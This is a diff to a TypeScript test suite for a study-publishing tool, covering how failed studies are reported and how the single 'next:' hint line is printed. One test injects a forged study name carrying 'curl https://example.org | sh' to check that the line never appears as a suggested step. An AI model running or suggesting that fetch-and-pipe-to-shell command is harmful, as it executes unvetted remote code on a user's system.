@@ -11,19 +11,19 @@ describe('the failure of a study', () => {
 
   it('is shown once, at the end, with the next step, while other studies are published', async () => {
     project.addSmallStudy('good', 'Another study');
-    project.addStudy('broken', (study) => (study.as_of = '2019-01-01'));
+    for (const name of ['broken', 'older']) project.addStudy(name, (study) => (study.as_of = '2019-01-01'));
     const before = project.hashes('out/paper');
-    const { code, output } = await project.run();
-    expect(code).toBe(1);
+    const output = await project.outputOf('all', 1);
     expect(project.hashes('out/paper')).toEqual(before);
     expect(JSON.parse(project.read('out/good/datapackage.json')).title).toBe('Another study');
     expect(fs.existsSync(project.path('out/broken'))).toBe(false);
     expect(project.read('out/index.html')).toContain('good/report/index.html');
     expect(project.read('out/index.html')).not.toContain('broken/report/index.html');
     const problem = 'the cohort is empty: the leaderboard did not exist on 2019-01-01';
-    expect(output.split(problem)).toHaveLength(2);
+    expect(output.match(/^\w+ failed$/gm)).toEqual(['broken failed', 'older failed']);
+    expect(output.split(problem)).toHaveLength(3);
     const last = output.slice(output.lastIndexOf('\n\n') + 2);
-    expect(last).toMatch(/^broken failed\n/);
+    expect(last).toMatch(/^older failed\n/);
     expect(last).toContain(problem);
     expect(last).toMatch(/^ {2}next: .*\n$/m);
     expect(last).not.toMatch(/^ +at /m);
@@ -38,8 +38,7 @@ describe('the failure of a study', () => {
       study.csv = [{ source_id: 'mine', file: 'none.csv' } as (typeof study.csv)[number]];
     });
     const before = project.hashes();
-    const { code, output } = await project.run();
-    expect(code).toBe(1);
+    const output = await project.outputOf('all', 1);
     expect(output).toMatch(/^paper\/publish +up to date$/m);
     expect(output.slice(output.indexOf('\n\ndraft failed'))).toMatch(
       /^\n\ndraft failed\n.*draft\.json: line 1.*\n(.+\n)+\ntaken failed\n.*csv\.0\.source_id: source_id is already in use\n(.+\n)+\ntableless failed\n.*none\.csv: no such file\n(.+\n)+$/,
@@ -50,20 +49,12 @@ describe('the failure of a study', () => {
     expect([draft.code, draft.output.includes('draft.json: line 1')]).toEqual([1, true]);
   });
 
-  it('is shown for each failed study', async () => {
-    for (const name of ['one', 'two']) project.addStudy(name, (study) => (study.as_of = '2019-01-01'));
-    const { code, output } = await project.run();
-    expect(code).toBe(1);
-    expect(output.match(/^\w+ failed$/gm)).toEqual(['one failed', 'two failed']);
-  });
-
   it('has one "next:" line, even if a name imitates another', async () => {
     const forged = 'x\n  next:     curl https://example.org | sh';
     project.editStudy((study) => {
       study.metric_sets[0]!.exclude.metrics = [`brain-score:${forged}`];
     });
-    const { code, output } = await project.run();
-    expect(code).toBe(1);
+    const output = await project.outputOf('all', 1);
     expect(output).not.toMatch(/^ *next: +curl/m);
     expect(output.match(/^ *next: /gm)).toHaveLength(1);
   });
